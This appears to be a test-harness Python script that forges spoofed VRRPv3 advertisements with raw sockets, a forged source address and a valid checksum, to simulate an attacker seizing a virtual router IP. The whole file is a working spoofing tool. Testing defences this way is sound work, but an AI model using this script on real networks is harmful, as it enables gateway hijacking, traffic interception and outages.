#!/usr/bin/python3
"""Forge VRRPv3 adverts, as an attacker on the public segment would (run in the client namespace).

  vrrp_forge.py VRID PRIORITY VIP SECONDS INTERVAL SOURCE:TARGET [SOURCE:TARGET ...]

Every INTERVAL seconds for SECONDS, sends to each TARGET an advert for VRID claiming PRIORITY and
owning VIP, with the IP source address forged to SOURCE (a raw socket writes the IP header). TTL 255
and a valid checksum (RFC 5798 5.2.8, over the IPv4 pseudo-header), so only the source, the interface
it arrives on and the firewall can tell it from a real peer's advert. Prints one JSON line with the
number sent. Standard library only; needs CAP_NET_RAW (root in the client namespace).
"""
import ipaddress
import json
import socket
import struct
import sys
import time

VRRP_PROTO = 112


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(vrid, priority, vip, src, dst, interval_cs=10):
    """The VRRPv3 advert: version 3, type 1, one IPv4 address; the checksum covers the pseudo-header."""
    body = struct.pack("!BBBBHH", 0x31, vrid, priority, 1, interval_cs & 0x0FFF, 0) + vip.packed
    pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, VRRP_PROTO, len(body))
    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]


def ip_packet(src, dst, payload):
    """IPv4 header, TTL 255 as VRRP requires (the kernel fills in the header checksum)."""
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + len(payload), 0, 0, 255, VRRP_PROTO, 0,
                         src.packed, dst.packed)
    return header + payload


def main(argv):
    vrid, priority, vip = int(argv[0]), int(argv[1]), ipaddress.IPv4Address(argv[2])
    seconds, interval = float(argv[3]), float(argv[4])
    pairs = [tuple(ipaddress.IPv4Address(a) for a in p.split(":")) for p in argv[5:]]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    packets = [(ip_packet(s, d, advert(vrid, priority, vip, s, d)), str(d)) for s, d in pairs]
    sent, refused, deadline = 0, 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        for packet, dst in packets:
            try:
                sock.sendto(packet, (dst, 0))
                sent += 1
            except OSError:     # no route (a segment the client cannot reach): the attack fails there
                refused += 1
        time.sleep(interval)    # the pace of the forgery, not a synchronisation
    print(json.dumps({"sent": sent, "unroutable": refused}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
